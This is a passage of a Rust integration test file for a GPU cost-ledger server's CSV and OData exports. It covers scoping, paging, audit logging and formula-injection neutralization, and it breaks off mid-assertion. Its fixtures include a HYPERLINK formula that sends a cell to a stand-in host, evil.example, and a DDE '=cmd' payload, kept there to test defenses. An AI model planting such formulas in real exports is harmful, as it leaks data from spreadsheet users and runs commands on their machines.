//! Exports against real PostgreSQL as the app role, through the router: the four CSV files parsed back and
//! compared with the database (closed and open months, month splits, department and tenant filters, a
//! department-scoped token), the formula-injection corpus (tenant, pod and usage names, dispute text) neutralized
//! while numbers stay numbers; the OData feed (service document, `$metadata`, every entity set, `$filter`,
//! `$select`, `$orderby`, `$top`, `$skip`, `$count`, keyset and offset paging through `@odata.nextLink`, errors for
//! what is not supported, Basic / Bearer / API-key credentials and never the session cookie); FOCUS 1.2 and 1.0
//! columns, charge categories and the correction class. The outside clients (python-odata, focus-validator) run
//! in `e2e/tests/exports_clients.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::{BTreeMap, BTreeSet};

use axum::{
    body::{Body, to_bytes},
    http::{Request, StatusCode},
};
use gpuledger_core::{
    ids::{DepartmentId, OrgId},
    sharing::SharingMode,
    wire::{
        AgentInfo, AllocationEnd, AllocationStart, AttributionLabels, Batch, EndReason, Fact, FactBody, Holder,
        NamespaceFact, WIRE_VERSION, event_id,
    },
};
use gpuledger_server::{
    app::{self, AppState, HttpOptions},
    auth::{self, Role, Scope, oidc, session},
};
use serde_json::{Value, json};
use time::{OffsetDateTime, macros::datetime};
use tower::ServiceExt;
use uuid::Uuid;

const H100: &str = "NVIDIA H100 80GB HBM3";
/// Tenant names a spreadsheet would run as formulas.
const EVIL_TENANT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
const OPS_TENANT: &str = "@ops";
const EVIL_POD: &str = "=1+2";
const EVIL_USAGE_TENANT: &str = "-2+3";
const EVIL_REASON: &str = "=cmd|' /C calc'!A0 and the job was stuck";

struct Env {
    app: axum::Router,
    admin: String,
    export: String,
    export_platform: String,
    agent: String,
    cookie: String,
    su: sqlx::PgPool,
    org: Uuid,
    research: Uuid,
    platform: Uuid,
    alpha: Uuid,
    _db: gpuledger_e2e::TestDatabase,
}

struct Answer {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.text()))
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    fn header(&self, name: &str) -> String {
        self.headers.get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default()
    }
}

async fn send(env: &Env, method: &str, uri: &str, headers: &[(&str, String)], body: Option<Value>) -> Answer {
    let mut b = Request::builder().method(method).uri(uri).header("content-type", "application/json");
    for (k, v) in headers {
        b = b.header(*k, v);
    }
    let r = b.body(body.map_or_else(Body::empty, |v| Body::from(serde_json::to_vec(&v).unwrap()))).unwrap();
    let response = env.app.clone().oneshot(r).await.unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let body = to_bytes(response.into_body(), 256 << 20).await.unwrap().to_vec();
    Answer { status, headers, body }
}

fn bearer(token: &str) -> Vec<(&'static str, String)> {
    vec![("authorization", format!("Bearer {token}"))]
}

fn basic(token: &str) -> Vec<(&'static str, String)> {
    use base64::Engine;
    vec![(
        "authorization",
        format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("powerbi:{token}"))),
    )]
}

async fn get(env: &Env, uri: &str, token: &str) -> Answer {
    send(env, "GET", uri, &bearer(token), None).await
}

async fn ok_json(env: &Env, method: &str, uri: &str, body: Value) -> Value {
    let a = send(env, method, uri, &bearer(&env.admin), Some(body)).await;
    assert!(a.status.is_success(), "{method} {uri}: {} {}", a.status, a.text());
    a.json()
}

// ---------------------------------------------------------------- CSV parsing (RFC 4180)

/// Parses RFC 4180 CSV: quoted fields with doubled quotes, CRLF or LF row ends.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    let mut at_start = true;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    field.push('"');
                    chars.next();
                } else {
                    quoted = false;
                }
            } else {
                field.push(c);
            }
            continue;
        }
        match c {
            '"' if at_start => {
                quoted = true;
                at_start = false;
            }
            ',' => {
                row.push(std::mem::take(&mut field));
                at_start = true;
            }
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
                at_start = true;
            }
            c => {
                assert!(c != '"', "a quote inside an unquoted field: {text}");
                field.push(c);
                at_start = false;
            }
        }
    }
    assert!(!quoted, "unterminated quoted field");
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

/// Rows as maps from the header.
fn records(text: &str) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let rows = parse_csv(text);
    let header = rows[0].clone();
    let recs = rows[1..]
        .iter()
        .map(|r| {
            assert_eq!(r.len(), header.len(), "row {r:?} has {} cells, the header {}", r.len(), header.len());
            header.iter().cloned().zip(r.iter().cloned()).collect()
        })
        .collect();
    (header, recs)
}

fn csv_of(a: &Answer) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
    assert!(a.header("content-type").starts_with("text/csv"), "{}", a.header("content-type"));
    let text = a.text();
    assert!(text.ends_with("\r\n"), "rows end with CRLF");
    records(&text)
}

/// Cents of a decimal string (exact).
fn cents(s: &str) -> i64 {
    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
    let neg = int.starts_with('-');
    let int: i64 = int.trim_start_matches('-').parse().unwrap();
    let frac: i64 = format!("{frac:0<2}")[..2].parse().unwrap();
    let v = int * 100 + frac;
    if neg { -v } else { v }
}

/// Micro-units of a decimal string with at most 6 decimals (exact).
fn micros(s: &str) -> i64 {
    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
    assert!(frac.len() <= 6, "{s}");
    let neg = int.starts_with('-');
    let v =
        int.trim_start_matches('-').parse::<i64>().unwrap() * 1_000_000 + format!("{frac:0<6}").parse::<i64>().unwrap();
    if neg { -v } else { v }
}

const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

// ---------------------------------------------------------------- seeding

fn namespace(uid: Uuid, name: &str, tenant: &str) -> Fact {
    Fact {
        event_id: event_id("namespace", &[&uid.to_string(), "1"]),
        observed_at: datetime!(2026-08-01 00:00 UTC),
        body: FactBody::NamespaceObserved(NamespaceFact {
            namespace_uid: uid,
            name: name.into(),
            created_at: datetime!(2026-08-01 00:00 UTC),
            deleted_at: None,
            labels: AttributionLabels { tenant: Some(tenant.into()), ..Default::default() },
            labels_since: datetime!(2026-08-01 00:00 UTC),
        }),
    }
}

fn pod(ns: Uuid, name: &str, units: u32, from: OffsetDateTime, to: OffsetDateTime) -> Vec<Fact> {
    let pod = Uuid::new_v4();
    let allocation_id = format!("{pod}/main/nvidia.com/gpu");
    vec![
        Fact {
            event_id: event_id("alloc-start", &[&allocation_id]),
            observed_at: from,
            body: FactBody::AllocationStarted(AllocationStart {
                allocation_id: allocation_id.clone(),
                holder: Holder::Pod,
                holder_uid: pod,
                holder_name: name.into(),
                namespace: "ns".into(),
                namespace_uid: Some(ns),
                container: Some("main".into()),
                node: Some("node-1".into()),
                resource: "nvidia.com/gpu".into(),
                units,
                mode: SharingMode::Exclusive,
                gpu_model: Some(H100.into()),
                device_ids: vec![],
                started_at: from,
                labels: AttributionLabels::default(),
            }),
        },
        Fact {
            event_id: event_id("alloc-end", &[&allocation_id]),
            observed_at: to,
            body: FactBody::AllocationEnded(AllocationEnd { allocation_id, ended_at: to, reason: EndReason::Finished }),
        },
    ]
}

async fn ingest(env: &Env, facts: Vec<Fact>) {
    let b = Batch {
        wire_version: WIRE_VERSION,
        agent: AgentInfo { version: "test".into(), mode: "cluster".into(), node: None, spool: None },
        cluster: None,
        facts,
    };
    let a =
        send(env, "POST", "/api/v1/ingest/batches", &bearer(&env.agent), Some(serde_json::to_value(&b).unwrap())).await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
}

/// Acme: Research (alpha, the formula-named tenant) and Platform (@ops); September closed; a dispute with a
/// formula for a reason, accepted with a 5.00 credit finance approved; a late September fact; service usage.
/// October is open and carries the credit and the late-data adjustment.
async fn env() -> Env {
    let (test_db, db) = common::migrated().await;
    let su = common::admin_pool(&test_db).await;
    let org = db.cross_org_directory().create_org(OrgId::from_uuid(Uuid::new_v4()), "acme", "Acme").await.unwrap();
    let o = org.as_uuid();
    let (research, platform, alpha) = (Uuid::new_v4(), Uuid::new_v4(), Uuid::new_v4());
    sqlx::query(
        "INSERT INTO departments (org_id, department_id, name) VALUES ($1, $2, 'Research'), ($1, $3, 'Platform')",
    )
    .bind(o)
    .bind(research)
    .bind(platform)
    .execute(&su)
    .await
    .unwrap();
    for (id, dept, name) in
        [(alpha, research, "alpha"), (Uuid::new_v4(), research, EVIL_TENANT), (Uuid::new_v4(), platform, OPS_TENANT)]
    {
        sqlx::query("INSERT INTO tenants (org_id, tenant_id, department_id, name, created_at) VALUES ($1, $2, $3, $4, '2025-01-01')")
            .bind(o)
            .bind(id)
            .bind(dept)
            .bind(name)
            .execute(&su)
            .await
            .unwrap();
    }
    sqlx::query("INSERT INTO gpu_classes (org_id, gpu_class) VALUES ($1, 'H100-80GB')")
        .bind(o)
        .execute(&su)
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO gpu_models (org_id, model, valid_from, gpu_class) VALUES ($1, $2, '2025-01-01', 'H100-80GB')",
    )
    .bind(o)
    .bind(H100)
    .execute(&su)
    .await
    .unwrap();
    let mut tx = db.begin_org(org).await.unwrap();
    let (cluster, _) = auth::ensure_cluster(&mut tx, "c1").await.unwrap();
    let (_, agent) = auth::create_token(&mut tx, &Scope::Agent { cluster }, "agent", "test", None).await.unwrap();
    let (_, admin) = auth::create_token(&mut tx, &Scope::Admin, "admin", "test", None).await.unwrap();
    let (_, export) = auth::create_token(&mut tx, &Scope::export(), "bi", "test", None).await.unwrap();
    let (_, export_platform) = auth::create_token(
        &mut tx,
        &Scope::Export { departments: vec![DepartmentId::from_uuid(platform)] },
        "bi-platform",
        "test",
        None,
    )
    .await
    .unwrap();
    let user = oidc::upsert_user(&mut tx, "fin-subject", Some("fin@acme.invalid"), "Fin").await.unwrap();
    let new = session::NewSession {
        user_id: user,
        roles: vec![Role::Finance],
        departments: Vec::new(),
        id_token_hint: None,
        source: "test".into(),
    };
    let cookie = session::create(&mut tx, &session::SessionSettings::default(), &new).await.unwrap();
    tx.commit().await.unwrap();
    let app = app::router(AppState::new(db.clone(), None), &HttpOptions::default());
    let env =
        Env { app, admin, export, export_platform, agent, cookie, su, org: o, research, platform, alpha, _db: test_db };

    ok_json(
        &env,
        "POST",
        "/api/v1/policies",
        json!({"effective_from": "2026-09", "note": "rates", "policy": {
            "currency": "USD",
            "classes": [{"gpu_class": "H100-80GB", "guaranteed": "2.00", "borrowed": "3.00"}],
            "overhead": {"fixed": [{"name": "platform team", "amount": "100.00"}], "key": {"kind": "equal"}}
        }}),
    )
    .await;
    ok_json(&env, "POST", "/api/v1/policies/1/approve", json!({"reason": "approved"})).await;

    let (ns_alpha, ns_evil, ns_ops) = (Uuid::new_v4(), Uuid::new_v4(), Uuid::new_v4());
    let mut facts = vec![
        namespace(ns_alpha, "alpha-ns", "alpha"),
        namespace(ns_evil, "evil-ns", EVIL_TENANT),
        namespace(ns_ops, "ops-ns", OPS_TENANT),
    ];
    // alpha 2 GPUs × 10 h; the formula-named pod 1 GPU across the month's end (4 h in each month); @ops 1 GPU × 24 h
    facts.extend(pod(ns_alpha, "trainer", 2, datetime!(2026-09-10 00:00 UTC), datetime!(2026-09-10 10:00 UTC)));
    facts.extend(pod(ns_evil, EVIL_POD, 1, datetime!(2026-09-30 20:00 UTC), datetime!(2026-10-01 04:00 UTC)));
    facts.extend(pod(ns_ops, "ops-job", 1, datetime!(2026-09-20 00:00 UTC), datetime!(2026-09-21 00:00 UTC)));
    ingest(&env, facts).await;
    ok_json(&env, "POST", "/api/v1/periods/2026-09/close", json!({})).await;

    let d = ok_json(
        &env,
        "POST",
        "/api/v1/disputes",
        json!({"period": "2026-09",
        "line_ids": ["2026-09/borrowed/alpha/H100-80GB"], "reason": EVIL_REASON}),
    )
    .await;
    let id = d["id"].as_str().unwrap().to_string();
    ok_json(
        &env,
        "POST",
        &format!("/api/v1/disputes/{id}/accept"),
        json!({"reason": "+5 goodwill", "credit_amount": "5.00"}),
    )
    .await;
    // Finance approves the credit (no token scope does): as the finance session, with its CSRF token.
    let session = vec![
        ("cookie", format!("gl_session={}", env.cookie)),
        ("x-csrf-token", session::csrf_for(&env.cookie)),
        ("host", "localhost".to_string()),
    ];
    let a = send(&env, "POST", &format!("/api/v1/disputes/{id}/credit/approve"), &session, Some(json!({}))).await;
    assert!(a.status.is_success(), "{} {}", a.status, a.text());
    // a late September fact: alpha 1 GPU × 5 h → an adjustment in October
    ingest(&env, pod(ns_alpha, "late", 1, datetime!(2026-09-15 00:00 UTC), datetime!(2026-09-15 05:00 UTC))).await;

    let cluster_id: Uuid = sqlx::query_scalar("SELECT cluster_id FROM clusters WHERE org_id = $1")
        .bind(o)
        .fetch_one(&env.su)
        .await
        .unwrap();
    for (tenant, tenant_id, hour, input, output) in
        [("alpha", Some(alpha), 1, 1000_i64, 250_i64), (EVIL_USAGE_TENANT, None, 2, 7, 9)]
    {
        sqlx::query(
            "INSERT INTO service_usage (org_id, cluster_id, endpoint, model, tenant_name, tenant_id, window_start,
                                        window_end, requests, input_tokens, output_tokens)
             VALUES ($1, $2, 'llm-shared', 'llama', $3, $4, $5, $5 + interval '1 hour', 3, $6, $7)",
        )
        .bind(o)
        .bind(cluster_id)
        .bind(tenant)
        .bind(tenant_id)
        .bind(datetime!(2026-09-05 00:00 UTC) + time::Duration::hours(hour))
        .bind(input)
        .bind(output)
        .execute(&env.su)
        .await
        .unwrap();
    }
    env
}

// ---------------------------------------------------------------- CSV

#[tokio::test]
async fn csv_exports_match_the_database_and_neutralize_formulas() {
    let env = env().await;

    // -- ledger.csv of the closed month: the canonical header, every stored line with its exact amount
    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-09", &env.export).await);
    assert_eq!(header.join(","), gpuledger_core::ledger::CSV_HEADER);
    let db: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT line_id, amount::text, quantity::text FROM ledger_lines WHERE org_id = $1 AND period = '2026-09-01' ORDER BY line_no",
    )
    .bind(env.org)
    .fetch_all(&env.su)
    .await
    .unwrap();
    assert!(db.len() >= 6, "{db:?}");
    let csv: Vec<(String, String, String)> =
        rows.iter().map(|r| (r["line_id"].clone(), r["amount"].clone(), r["quantity"].clone())).collect();
    assert_eq!(csv, db, "the CSV is the stored lines, in order, with exact decimals");
    let total: String =
        sqlx::query_scalar("SELECT total_amount::text FROM periods WHERE org_id = $1 AND period = '2026-09-01'")
            .bind(env.org)
            .fetch_one(&env.su)
            .await
            .unwrap();
    assert_eq!(rows.iter().map(|r| cents(&r["amount"])).sum::<i64>(), cents(&total));
    // the formula-named tenant comes back neutralized; no text cell starts a formula
    let evil: Vec<_> = rows.iter().filter(|r| r["tenant"] == format!("'{EVIL_TENANT}")).collect();
    assert!(!evil.is_empty(), "the tenant {EVIL_TENANT} is written as '{EVIL_TENANT}: {rows:?}");
    assert!(rows.iter().any(|r| r["tenant"] == format!("'{OPS_TENANT}")));
    for r in &rows {
        for (k, v) in r {
            assert!(!v.starts_with(FORMULA_START), "{k} = {v:?} starts a formula");
        }
        assert_eq!(r["period"], "2026-09");
    }

    // -- the open month is computed now: its credit (negative, still a number) and its late-data adjustment
    let (_, oct) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-10", &env.export).await);
    let preview = get(&env, "/api/v1/ledger?period=2026-10", &env.export).await.json();
    let want: BTreeSet<(String, String)> = preview["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| (l["line_id"].as_str().unwrap().to_string(), l["amount"].as_str().unwrap().to_string()))
        .collect();
    let got: BTreeSet<(String, String)> = oct.iter().map(|r| (r["line_id"].clone(), r["amount"].clone())).collect();
    assert_eq!(got, want);
    let credit = oct.iter().find(|r| r["term"] == "credit").expect("a credit line");
    assert_eq!(credit["amount"], "-5.00", "numbers are not neutralized");
    let adjustment = oct.iter().find(|r| r["term"] == "adjustment").expect("a late-data adjustment");
    assert_eq!(adjustment["amount"], "15.00", "1 GPU × 5 h × 3.00");
    assert!(adjustment["corrects"].starts_with("2026-09/"), "{adjustment:?}");

    // -- allocations.csv: one row per allocation and month, GPU-hours exact, the month's end splits
    let (header, sept) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-09", &env.export).await);
    for c in [
        "period",
        "cluster",
        "allocation_id",
        "start",
        "end",
        "gpu_hours",
        "tenant",
        "department",
        "holder_name",
        "confidence",
    ] {
        assert!(header.contains(&c.to_string()), "{c} in {header:?}");
    }
    let hours: BTreeMap<String, String> =
        sept.iter().map(|r| (r["holder_name"].clone(), r["gpu_hours"].clone())).collect();
    assert_eq!(hours["trainer"], "20.000000");
    assert_eq!(hours["ops-job"], "24.000000");
    assert_eq!(hours["late"], "5.000000");
    assert_eq!(hours[&format!("'{EVIL_POD}")], "4.000000", "the pod name is neutralized, its hours are not");
    let evil = sept.iter().find(|r| r["holder_name"] == format!("'{EVIL_POD}")).unwrap();
    assert_eq!((evil["start"].as_str(), evil["end"].as_str()), ("2026-09-30T20:00:00Z", "2026-10-01T00:00:00Z"));
    assert_eq!(evil["tenant"], format!("'{EVIL_TENANT}"));
    assert_eq!(evil["started_at"], "2026-09-30T20:00:00Z");
    let (_, oct) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-10", &env.export).await);
    assert_eq!(oct.len(), 1, "{oct:?}");
    assert_eq!((oct[0]["start"].as_str(), oct[0]["gpu_hours"].as_str()), ("2026-10-01T00:00:00Z", "4.000000"));
    let db_hours: String = sqlx::query_scalar(
        "SELECT sum(fraction_num::numeric * extract(epoch FROM least(ended_at, '2026-10-01') - greatest(started_at, '2026-09-01'))
                / (fraction_den * 3600))::numeric(20,6)::text
           FROM allocation_intervals WHERE org_id = $1 AND started_at < '2026-10-01' AND ended_at > '2026-09-01'",
    )
    .bind(env.org)
    .fetch_one(&env.su)
    .await
    .unwrap();
    assert_eq!(sept.iter().map(|r| micros(&r["gpu_hours"])).sum::<i64>(), micros(&db_hours));

    // -- usage.csv and disputes.csv
    let (_, usage) = csv_of(&get(&env, "/api/v1/exports/usage.csv?period=2026-09", &env.export).await);
    assert_eq!(usage.len(), 2);
    let evil_usage = usage.iter().find(|r| r["tenant_name"] == format!("'{EVIL_USAGE_TENANT}")).expect("neutralized");
    assert_eq!((evil_usage["input_tokens"].as_str(), evil_usage["tenant_id"].as_str()), ("7", ""));
    assert_eq!(usage.iter().find(|r| r["tenant_name"] == "alpha").unwrap()["window_start"], "2026-09-05T01:00:00Z");
    let (_, disputes) = csv_of(&get(&env, "/api/v1/exports/disputes.csv?period=2026-09", &env.export).await);
    assert_eq!(disputes.len(), 1);
    assert_eq!(disputes[0]["reason"], format!("'{EVIL_REASON}"));
    assert_eq!(disputes[0]["resolution"], "'+5 goodwill");
    assert_eq!((disputes[0]["state"].as_str(), disputes[0]["credit_amount"].as_str()), ("accepted", "5.00"));
    assert_eq!(disputes[0]["credit_state"], "approved");

    // -- filters: a department, a tenant
    let platform =
        get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-09&department={}", env.platform), &env.export).await;
    let (_, platform) = csv_of(&platform);
    assert!(!platform.is_empty() && platform.iter().all(|r| r["department"] == "Platform"), "{platform:?}");
    let (_, alpha) = csv_of(
        &get(&env, &format!("/api/v1/exports/allocations.csv?period=2026-09&tenant={}", env.alpha), &env.export).await,
    );
    assert_eq!(alpha.len(), 2);
    let (_, alpha_oct) = csv_of(
        &get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-10&tenant={}", env.alpha), &env.export).await,
    );
    assert!(!alpha_oct.is_empty() && alpha_oct.iter().all(|r| r["tenant"] == "alpha"));

    // -- an export token limited to Platform sees Platform only, in every file
    let t = &env.export_platform;
    let (_, l) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-09", t).await);
    assert!(!l.is_empty() && l.iter().all(|r| r["department"] == "Platform"), "{l:?}");
    let (_, l) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-10", t).await);
    assert!(l.iter().all(|r| r["department"] == "Platform"), "{l:?}");
    let (_, a) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-09", t).await);
    assert_eq!(a.iter().map(|r| r["holder_name"].as_str()).collect::<Vec<_>>(), ["ops-job"]);
    assert!(csv_of(&get(&env, "/api/v1/exports/usage.csv?period=2026-09", t).await).1.is_empty());
    assert!(csv_of(&get(&env, "/api/v1/exports/disputes.csv?period=2026-09", t).await).1.is_empty());
    let (_, l) =
        csv_of(&get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-09&department={}", env.research), t).await);
    assert!(l.is_empty(), "a filter never widens the scope");

    // -- refusals
    for (uri, status) in [
        ("/api/v1/exports/allocations.csv", 422),
        ("/api/v1/exports/usage.csv?period=2026-13", 422),
        ("/api/v1/exports/disputes.csv?period=2026-09&department=nope", 422),
        ("/api/v1/exports/ledger.csv?period=2026-09&tenant=x", 422),
    ] {
        assert_eq!(get(&env, uri, &env.export).await.status.as_u16(), status, "{uri}");
    }
    assert_eq!(send(&env, "GET", "/api/v1/exports/allocations.csv?period=2026-09", &[], None).await.status, 401);
    assert_eq!(get(&env, "/api/v1/exports/allocations.csv?period=2026-09", &env.agent).await.status, 403);
    // a signed-in person may download CSV in the browser
    let a = send(
        &env,
        "GET",
        "/api/v1/exports/usage.csv?period=2026-09",
        &[("cookie", format!("gl_session={}", env.cookie))],
        None,
    )
    .await;
    assert_eq!(a.status, 200, "{}", a.text());

    // -- a change of the namespace's owner splits the allocation at that instant
    let ns: Uuid = sqlx::query_scalar(
        "SELECT a.namespace_uid FROM allocation_intervals a WHERE a.org_id = $1 AND a.holder_name = 'ops-job'",
    )
    .bind(env.org)
    .fetch_one(&env.su)
    .await
    .unwrap();
    sqlx::query(
        "UPDATE namespace_ownership SET valid_to = '2026-09-20 12:00Z' WHERE org_id = $1 AND namespace_uid = $2",
    )
    .bind(env.org)
    .bind(ns)
    .execute(&env.su)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO namespace_ownership (org_id, namespace_uid, valid_from, tenant_id) VALUES ($1, $2, '2026-09-20 12:00Z', $3)",
    )
    .bind(env.org)
    .bind(ns)
    .bind(env.alpha)
    .execute(&env.su)
    .await
    .unwrap();
    let (_, sept) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-09", &env.export).await);
    let mut parts: Vec<(&str, &str, &str, &str)> = sept
        .iter()
        .filter(|r| r["holder_name"] == "ops-job")
        .map(|r| (r["tenant"].as_str(), r["start"].as_str(), r["end"].as_str(), r["gpu_hours"].as_str()))
        .collect();
    parts.sort_by_key(|p| p.1);
    assert_eq!(
        parts,
        [
            ("'@ops", "2026-09-20T00:00:00Z", "2026-09-20T12:00:00Z", "12.000000"),
            ("alpha", "2026-09-20T12:00:00Z", "2026-09-21T00:00:00Z", "12.000000")
        ]
    );

    // … and the OData feed (planned differently) splits it the same way
    let a = send(
        &env,
        "GET",
        "/odata/Allocations?$filter=HolderName%20eq%20'ops-job'&$select=Tenant,Start,End,GpuHours",
        &basic(&env.export),
        None,
    )
    .await;
    let v = a.json();
    let odata: Vec<(String, String, String, i64)> = v["value"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["Tenant"].as_str().unwrap().to_string(),
                r["Start"].as_str().unwrap().to_string(),
                r["End"].as_str().unwrap().to_string(),
                micros(&r["GpuHours"].to_string()),
            )
        })
        .collect();
    assert_eq!(
        odata,
        [
            ("@ops".to_string(), "2026-09-20T00:00:00Z".to_string(), "2026-09-20T12:00:00Z".to_string(), 12_000_000),
            ("alpha".to_string(), "2026-09-20T12:00:00Z".to_string(), "2026-09-21T00:00:00Z".to_string(), 12_000_000)
        ],
        "{v}"
    );

    // -- every export is audited
    let actions: Vec<String> =
        sqlx::query_scalar("SELECT DISTINCT action FROM audit_log WHERE org_id = $1 AND action LIKE 'export.%'")
            .bind(env.org)
            .fetch_all(&env.su)
            .await
            .unwrap();
    for a in ["export.ledger_csv", "export.allocations_csv", "export.usage_csv", "export.disputes_csv"] {
        assert!(actions.contains(&a.to_string()), "{a} in {actions:?}");
    }
}

// ---------------------------------------------------------------- OData

/// Follows `@odata.nextLink` from `uri`; returns every entity and the number of pages.
async fn all_pages(env: &Env, uri: &str, headers: &[(&str, String)]) -> (Vec<Value>, usize) {
    let mut out = Vec::new();
    let mut next = Some(uri.to_string());
    let mut pages = 0;
    while let Some(u) = next {
        let a = send(env, "GET", &u, headers, None).await;
        assert_eq!(a.status, 200, "{u}: {}", a.text());
        assert_eq!(a.header("odata-version"), "4.0");
        let v = a.json();
        out.extend(v["value"].as_array().unwrap().iter().cloned());
        pages += 1;
        assert!(pages < 1000, "paging does not end");
        next =
            v["@odata.nextLink"].as_str().map(|l| l.split_once("/odata/").map(|(_, p)| format!("/odata/{p}")).unwrap());
    }
    (out, pages)
}

#[tokio::test]
async fn odata_feed_pages_filters_and_refuses() {
    let env = env().await;
    let h = basic(&env.export);

    // -- service document and metadata
    let a = send(&env, "GET", "/odata/", &h, None).await;
    assert_eq!((a.status.as_u16(), a.header("odata-version").as_str()), (200, "4.0"), "{}", a.text());
    let doc = a.json();
    let names: Vec<&str> = doc["value"].as_array().unwrap().iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["LedgerLines", "Allocations", "Tenants", "Departments", "Periods", "Usage", "Disputes"]);
    assert!(doc["@odata.context"].as_str().unwrap().ends_with("/odata/$metadata"), "{doc}");
    // The Power Query file names only sets the service has, and filters the incremental ones on PeriodStart.
    let pq = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/powerbi/GpuLedger.pq"),
    )
    .unwrap();
    let referenced: Vec<&str> = pq.split("{[Name = \"").skip(1).map(|r| r.split('"').next().unwrap()).collect();
    assert_eq!(referenced.len(), 7, "{referenced:?}");
    for r in &referenced {
        assert!(names.contains(r), "{r} is not an entity set");
    }
    assert_eq!(
        pq.matches(
            "each [PeriodStart] >= DateTime.AddZone(RangeStart, 0) and [PeriodStart] < DateTime.AddZone(RangeEnd, 0)"
        )
        .count(),
        3
    );
    let a = send(&env, "GET", "/odata/$metadata", &h, None).await;
    assert_eq!(a.status, 200);
    assert!(a.header("content-type").starts_with("application/xml"));
    let xml = a.text();
    for s in names {
        assert!(xml.contains(&format!(r#"<EntitySet Name="{s}""#)), "{s}");
    }
    assert!(xml.contains(
        r#"<EntityType Name="LedgerLine"><Key><PropertyRef Name="Period"/><PropertyRef Name="LineId"/></Key>"#
    ));
    assert!(xml.contains(r#"<Property Name="PeriodStart" Type="Edm.DateTimeOffset" Nullable="false""#));

    // -- LedgerLines: the closed month's lines, filtered by Period, amounts exact
    let db: Vec<(String, String)> = sqlx::query_as(
        "SELECT line_id, amount::text FROM ledger_lines WHERE org_id = $1 ORDER BY period, line_id COLLATE \"default\"",
    )
    .bind(env.org)
    .fetch_all(&env.su)
    .await
    .unwrap();
    let a = send(&env, "GET", "/odata/LedgerLines?$filter=Period%20eq%20'2026-09'&$count=true", &h, None).await;
    let v = a.json();
    assert_eq!(v["@odata.count"], db.len());
    assert!(v["@odata.context"].as_str().unwrap().ends_with("/odata/$metadata#LedgerLines"));
    let got: Vec<(String, i64)> = v["value"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| (l["LineId"].as_str().unwrap().to_string(), cents(&l["Amount"].to_string())))
        .collect();
    assert_eq!(got, db.iter().map(|(i, a)| (i.clone(), cents(a))).collect::<Vec<_>>(), "in key order");
    assert!(a.text().contains(&format!("\"Amount\":{},", db[0].1)), "amounts are written exactly: {}", a.text());
    assert_eq!(v["value"][0]["PeriodStart"], "2026-09-01T00:00:00Z");
    // IEEE754Compatible=true: decimals as strings
    let a = send(
        &env,
        "GET",
        "/odata/LedgerLines?$top=1",
        &[h[0].clone(), ("accept", "application/json;IEEE754Compatible=true".into())],
        None,
    )
    .await;
    assert!(a.json()["value"][0]["Amount"].is_string(), "{}", a.text());
    assert!(a.header("content-type").contains("IEEE754Compatible=true"));

    // -- server-driven paging, keyset: two per page, every line once, in order
    let small = [h[0].clone(), ("prefer", "odata.maxpagesize=2".to_string())];
    let (lines, pages) = all_pages(&env, "/odata/LedgerLines", &small).await;
    let ids: Vec<String> = lines.iter().map(|l| l["LineId"].as_str().unwrap().to_string()).collect();
    assert_eq!(ids, db.iter().map(|(i, _)| i.clone()).collect::<Vec<_>>());
    assert_eq!(pages, db.len().div_ceil(2));
    let a = send(&env, "GET", "/odata/LedgerLines", &small, None).await;
    assert_eq!(a.header("preference-applied"), "odata.maxpagesize=2");
    // with $orderby (offset paging) and $select
    let (by_amount, _) =
        all_pages(&env, "/odata/LedgerLines?$orderby=Amount%20desc,LineId&$select=LineId,Amount", &small).await;
    assert_eq!(by_amount.len(), db.len());
    let amounts: Vec<i64> = by_amount.iter().map(|l| cents(&l["Amount"].to_string())).collect();
    assert!(amounts.windows(2).all(|w| w[0] >= w[1]), "{amounts:?}");
    assert!(by_amount.iter().all(|l| l.as_object().unwrap().len() == 2), "only the selected properties");
    // $top / $skip, also across pages
    let (window, _) = all_pages(&env, "/odata/LedgerLines?$top=3&$skip=1", &h).await;
    assert_eq!(
        window.iter().map(|l| l["LineId"].as_str().unwrap()).collect::<Vec<_>>(),
